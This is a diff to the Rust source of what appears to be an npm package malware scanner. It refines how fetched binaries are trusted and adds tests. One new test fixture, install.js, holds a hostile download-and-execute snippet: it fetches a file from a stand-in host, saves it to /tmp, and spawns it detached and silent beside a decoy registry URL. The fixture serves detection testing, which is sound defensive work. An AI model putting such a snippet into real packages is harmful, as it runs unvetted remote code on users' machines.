@@ -2,7 +2,7 @@
 
 use super::{chain, describe, finding, flow_finding, flows, locality, one_per_sink, per_signal};
 use crate::CodeFinding;
-use crate::flow::{SinkKind, SourceKind, flags};
+use crate::flow::{FlowPath, SinkKind, SourceKind, flags};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -96,7 +96,7 @@ fn runs_inline_code(command: &str) -> bool {
 
 /// Whether a path's data is unscrambled between the network and the sink: steps that undo an
 /// obfuscation (not parsing, concatenation or URL decoding, which loaders do).
-fn unscrambled(path: &crate::flow::FlowPath) -> bool {
+fn unscrambled(path: &FlowPath) -> bool {
     path.steps
         .iter()
         .any(|s| super::decode_exec::UNSCRAMBLING.contains(&s.what.as_str()))
@@ -182,14 +182,20 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         };
         let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
         // A prebuilt binary fetched from the npm registry itself (esbuild's fallback when its
-        // platform package is missing) has the same trust as the package's own files: the file
-        // builds a registry tarball URL in code (`https://registry.npmjs.org/${pkg}/-/…`); the
-        // registry named in a comment or beside other hosts' URLs lowers nothing. The file's
-        // text is searched only when the download is not verified already.
+        // platform package is missing) has the same trust as the package's own files. When the
+        // download's URL is known, it decides: a registry tarball URL is trusted, any other
+        // host is not, whatever registry URL the file spells elsewhere. When it is built at
+        // run time (`https://registry.npmjs.org/${pkg}/-/…` through a helper's parameter), the
+        // file must build a registry tarball URL in code; one in a comment lowers nothing. The
+        // file's text is searched only when the download is not verified already.
         let trusted = verified
-            || p.file(&path.from.file)
-                .and_then(|f| f.text.as_deref())
-                .is_some_and(builds_registry_tarball_url);
+            || match download_url(path) {
+                Some(url) => is_registry_tarball_url(url),
+                None => p
+                    .file(&path.from.file)
+                    .and_then(|f| f.text.as_deref())
+                    .is_some_and(builds_registry_tarball_url),
+            };
         let sev = match (trusted, hidden) {
             (true, _) => Severity::Low,
             (false, true) => Severity::Critical,
@@ -329,12 +335,36 @@ fn hidden_script(p: &PackageFacts) -> Vec<CodeFinding> {
             path,
             format!(
                 "page loads a script from a URL decoded at run time{}: {}",
-                if gated { ", behind an analysis gate" } else { "" },
+                if gated {
+                    ", behind an analysis gate"
+                } else {
+                    ""
+                },
                 super::describe(path)
             ),
         ));
     }
     super::one_per_sink(out)
+}
+
+/// The registry's tarball URL prefix.
+const REGISTRY: &str = "https://registry.npmjs.org/";
+
+/// The download's URL when the analysis knew it at build time: the source of a network
+/// response is described as `response of <client> from <url>`.
+fn download_url(path: &FlowPath) -> Option<&str> {
+    path.from
+        .what
+        .strip_prefix("response of ")
+        .and_then(|w| w.split_once(" from ").map(|(_, url)| url))
+        .filter(|url| url.contains("://"))
+}
+
+/// True when `url` is on `registry.npmjs.org` with the registry's tarball path shape
+/// (`/<name>/-/<file>`).
+fn is_registry_tarball_url(url: &str) -> bool {
+    url.strip_prefix(REGISTRY)
+        .is_some_and(|rest| rest.contains("/-/"))
 }
 
 /// True when a code line of `text` (not a comment) holds a URL on `registry.npmjs.org` with the
@@ -344,8 +374,8 @@ fn builds_registry_tarball_url(text: &str) -> bool {
         .map(str::trim_start)
         .filter(|l| !l.starts_with("//") && !l.starts_with('*') && !l.starts_with("/*"))
         .any(|l| {
-            l.match_indices("https://registry.npmjs.org/")
-                .any(|(at, m)| l[at + m.len()..].contains("/-/"))
+            l.match_indices(REGISTRY)
+                .any(|(at, _)| is_registry_tarball_url(&l[at..]))
         })
 }
 
@@ -699,6 +729,23 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
         );
     }
 
+    /// A registry tarball URL spelled in code beside a download from another, known host
+    /// lowers nothing: the download's own URL decides.
+    #[test]
+    fn positive_registry_url_in_code_beside_another_hosts_download() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const MIRROR = 'https://registry.npmjs.org/agent/-/agent-1.0.0.tgz';\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\nmodule.exports = MIRROR;\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
     /// A first-run launcher: a binary fetched with `rejectUnauthorized: false` through a
     /// helper, saved, then spawned under another name.
     #[test]
@@ -984,7 +1031,10 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             ),
         ]);
         let f = crate::rules::test_util::finding(&s, "code/download-exec");
-        assert_eq!((f.line, f.severity), (6, diligence_finding::Severity::Critical));
+        assert_eq!(
+            (f.line, f.severity),
+            (6, diligence_finding::Severity::Critical)
+        );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 
@@ -998,7 +1048,11 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
                 "export function load(id) {\n  const s = document.createElement('script');\n  s.async = true;\n  s.src = 'https://www.googletagmanager.com/gtag/js?id=' + encodeURIComponent(id);\n  document.head.appendChild(s);\n}\n",
             ),
         ]);
-        assert!(hits(&s, "code/download-exec").is_empty(), "{:?}", s.findings);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
     }
 
     /// A QR "reader" that decodes the bits of an image's pixels to text and runs it reversed
@@ -1013,7 +1067,10 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             ),
         ]);
         let f = crate::rules::test_util::finding(&s, "code/download-exec");
-        assert_eq!((f.line, f.severity), (16, diligence_finding::Severity::Critical));
+        assert_eq!(
+            (f.line, f.severity),
+            (16, diligence_finding::Severity::Critical)
+        );
     }
 
     /// The benign look-alike: a QR decoder reads pixels to text and returns it.
@@ -1026,6 +1083,10 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
                 "function decode(ctx, w, h) {\n  const px = ctx.getImageData(0, 0, w, h).data; const b = [];\n  for (let i = 0; i < px.length; i += 4) b.push(px[i] < 128 ? 1 : 0);\n  let s = '';\n  for (let i = 0; i + 8 <= b.length; i += 8) s += String.fromCharCode(parseInt(b.slice(i, i + 8).join(''), 2));\n  return s;\n}\nexports.decode = decode;\n",
             ),
         ]);
-        assert!(hits(&s, "code/download-exec").is_empty(), "{:?}", s.findings);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
     }
 }
